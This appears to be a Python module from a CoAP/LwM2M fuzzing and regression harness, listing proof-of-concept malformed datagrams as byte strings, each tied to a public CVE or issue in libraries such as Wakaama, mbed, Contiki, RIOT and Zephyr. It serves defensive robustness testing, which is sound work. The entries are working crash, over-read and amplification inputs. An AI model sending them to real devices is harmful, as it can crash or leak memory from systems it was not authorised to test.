"""Published proof-of-concept inputs, re-typed as facts (bytes) from the bug corpus.

Each entry names the row of shared/reference/fuzzing-bug-classes.md it comes
from, the public source, and what the bytes do.  No file was copied: these
are short byte strings quoted in advisories and issues (reference §7), plus
the exact shapes an advisory describes in words, built here byte by byte.
Where a source publishes only the start of a longer input, the entry says
"prefix" — the prefix is still a malformed datagram worth sending.

The regression suite (``suites/fuzz/test_reproducers.py``) sends every entry
to the device and requires it to stay alive; the lab campaign uses them as
mutation seeds.
"""

from __future__ import annotations

from dataclasses import dataclass

from . import packets


@dataclass(frozen=True)
class Poc:
    id: str
    ref: str            # row of the reference's bug corpus
    source: str
    what: str
    data: bytes


def _h(s: str) -> bytes:
    return bytes.fromhex(s.replace(" ", ""))


POCS: tuple[Poc, ...] = (
    Poc("wakaama-short-datagram", "C1", "https://github.com/eclipse-wakaama/wakaama/pull/640 (CVE-2021-41040)",
        "2-byte datagram: header read before the length check", _h("6E 8D")),
    Poc("wakaama-option-40", "C2", "https://github.com/eclipse-wakaama/wakaama/commit/3b72b8c",
        "PUT with option number exactly 40 (bitmap off-by-one), empty value, payload", _h("40 02 00 00 D0 1B FF AA")),
    Poc("wakaama-tkl-9", "C3", "https://github.com/eclipse-wakaama/wakaama/commit/3dfcf3f",
        "TKL 9 with nine token bytes (reserved token length)", _h("49 01 00 00") + bytes(range(1, 10))),
    Poc("wakaama-delta-15", "C3", "https://github.com/eclipse-wakaama/wakaama/commit/b5bbe36",
        "option delta nibble 15 (reserved)", _h("40 01 00 00 F0 FF 00")),
    Poc("wakaama-length-15", "C3", "https://github.com/eclipse-wakaama/wakaama/commit/b5bbe36",
        "option length nibble 15 (reserved)", _h("40 01 00 00 0F FF 00")),
    Poc("wakaama-marker-no-payload", "C3", "https://github.com/eclipse-wakaama/wakaama/commit/63a9fc4",
        "empty message with a payload marker and nothing after it", _h("40 00 00 00 FF")),
    Poc("wakaama-empty-with-bytes", "C3", "https://github.com/eclipse-wakaama/wakaama/commit/b36f33f",
        "code 0.00 with a token length of 1 and a token byte", _h("41 00 00 00 00")),
    Poc("wakaama-location-path-leak", "C6", "https://github.com/eclipse-wakaama/wakaama/commit/533f285 (CVE-2019-9004)",
        "POST, Location-Path then an unknown critical option, truncated (leaks 24 bytes per packet)",
        _h("44 02 E6 E2 E2 E6 81 67 B2 72 64 11")),
    Poc("mbed-ext-at-end", "C9", "https://github.com/PelionIoT/mbed-coap/pull/116 (CVE-2020-12883)",
        "option nibble 13 as the very last byte: the extension byte is missing", _h("40 01 00 01 D0")),
    Poc("mbed-tkl-past-end", "C11", "https://github.com/ARMmbed/mbed-os/issues/12948 (CVE-2020-12886)",
        "TKL 8 but two token bytes", _h("48 01 00 02 AA BB")),
    Poc("mbed-zero-length-query-last", "C13", "https://github.com/ARMmbed/mbed-os/issues/12929",
        "zero-length Uri-Query as the last byte", _h("40 01 00 03 F0")[:4] + packets.option(15, b"")),
    Poc("mbed-length-rollover", "C14", "https://github.com/ARMmbed/mbed-os/issues/12930",
        "length nibble 14 with extension 0xFEF3 (65536 bytes announced)", _h("40 01 00 04 0E FE F3 00")),
    Poc("contiki-2238", "C16", "https://github.com/contiki-os/contiki/issues/2238",
        "coap_parse_int_option with a huge length", _h("51 51 51 00 80 51 51 51 51 4E 51 51 51 51 51 51 51 F5 06")),
    Poc("contiki-2239", "C16", "https://github.com/contiki-os/contiki/issues/2239",
        "coap_merge_multi_option memmove", _h("53" * 8 + "84" + "53" * 7 + "5D 00 00 0E 53 53 53 73 32")),
    Poc("contiki-2240-prefix", "C16", "https://github.com/contiki-os/contiki/issues/2240",
        "prefix of the published 39-byte SET_OPTION input", _h("42 43 42 42 42 42 42 9E 80 42 42 28 01 E1")),
    Poc("contiki-1-byte", "C17", "https://github.com/contiki-os/contiki/issues/2492",
        "1-byte datagram (3-byte header over-read)", _h("40")),
    Poc("riot-ext-tkl-header-only", "C22", "https://github.com/RIOT-OS/RIOT/security/advisories/GHSA-p9hp-2jxm-6rqp",
        "4-byte datagram with TKL nibble 13 (RFC 8974 extended token length, bytes missing)", _h("4D 01 00 05")),
    Poc("riot-ext-tkl-14", "C22", "https://github.com/RIOT-OS/RIOT/security/advisories/GHSA-p9hp-2jxm-6rqp",
        "4-byte datagram with TKL nibble 14", _h("4E 01 00 06")),
    Poc("libcoap-214", "C27", "https://github.com/obgm/libcoap/issues/214",
        "TKL 10 (coap_show_pdu over-read)", _h("5A 0A 5B 5B")),
    Poc("openthread-delta-wrap", "C28", "https://github.com/openthread/openthread/issues/13578",
        "delta 65535 then delta 12: the option number wraps to Uri-Path", _h("40 01 00 07 E0 FE F2 C0")),
    Poc("coapthon-cve-2018-12680", "C31", "https://vuldb.com/cve/CVE-2018-12680",
        "Serialize.deserialize() exception (CoAPthon)", _h("64 FF F5 06 31 06 FD 40 06 06 FA 29")),
    Poc("coapthon3-cve-2018-12679-prefix", "C31", "https://vuldb.com/cve/CVE-2018-12679",
        "published prefix of the CoAPthon3 input", _h("63 FF 00 FF 00 DD 80 00 FF FA 62 01 00 00 00 44 44 68 3D")),
    Poc("phpcoap-ext-01", "C35", "https://github.com/cfullelove/PhpCoap/pull/7",
        "option nibble 13 with extension byte 01 (13 vs 14 confusion)", _h("40 01 00 08 D1 01 00")),
    Poc("iotivity-amplification", "D7", "https://github.com/Samsung/cotopaxi (CVE-2019-9750)",
        "GET /test (amplification probe)", _h("40 01 07 59 B4 74 65 73 74")),
    Poc("riot-many-options", "C19", "https://github.com/RIOT-OS/RIOT/issues/10753",
        "GET with 42 options (the reporter's count)",
        packets.message(packets.CON, packets.GET, 9, b"", [(11, b"x")] * 42)),
    Poc("riot-block-value-5-bytes", "C21", "https://github.com/RIOT-OS/RIOT/pull/14745",
        "GET /3/0/0 with a 5-byte Block2 value", packets.message(
            packets.CON, packets.GET, 10, b"", packets.path_options("/3/0/0") + [(23, b"\x00\x00\x00\x00\x16")])),
    Poc("anjay-bert-over-udp", "S3", "https://github.com/AVSystem/Anjay (avs_coap fuzzer_cases.c)",
        "GET /3/0 with Block2 SZX 7 (BERT, reserved over UDP)", packets.message(
            packets.CON, packets.GET, 11, b"\x01", packets.path_options("/3/0") + [(23, b"\x07")])),
    Poc("anjay-attr-without-value", "P9", "https://github.com/AVSystem/Anjay/blob/master/CHANGELOG.md (1.14.2)",
        "Write-Attributes PUT /3/0?foo (name without '=')", packets.message(
            packets.CON, packets.PUT, 12, b"\x02", packets.path_options("/3/0") + [(15, b"foo")])),
    Poc("anjay-senml-bn-only", "P8", "https://github.com/AVSystem/Anjay/blob/master/CHANGELOG.md (3.11)",
        "SenML JSON record with only a base name", packets.request(
            packets.POST, "/3/0", 13, b"\x03", content_format=110, payload=b'[{"bn":"/3/0/"}]')),
    Poc("wakaama-int64-min-text", "P6", "https://github.com/eclipse-wakaama/wakaama/commit/71cc945",
        "text value -9223372036854775808 (0 - INT64_MIN)", packets.request(
            packets.PUT, "/3/0/14", 14, b"\x04", content_format=0, payload=b"-9223372036854775808")),
    Poc("contiki-tlv-zero-length-int", "P4", "https://github.com/contiki-ng/contiki-ng/pull/3166",
        "TLV integer resource with length 0 (Write-Partial of /1/0... on /3/0 here)", packets.request(
            packets.POST, "/3/0", 15, b"\x05", content_format=11542, payload=b"\xc0\x0e")),
    Poc("zephyr-tlv-bad-type", "P1", "https://github.com/zephyrproject-rtos/zephyr/pull/26571 (CVE-2020-13602)",
        "TLV whose length runs past the payload (do_write_op_tlv loop)", packets.request(
            packets.POST, "/3/0", 16, b"\x06", content_format=11542, payload=b"\xc8\x0e\x20\x00")),
)


__all__ = ["POCS", "Poc"]
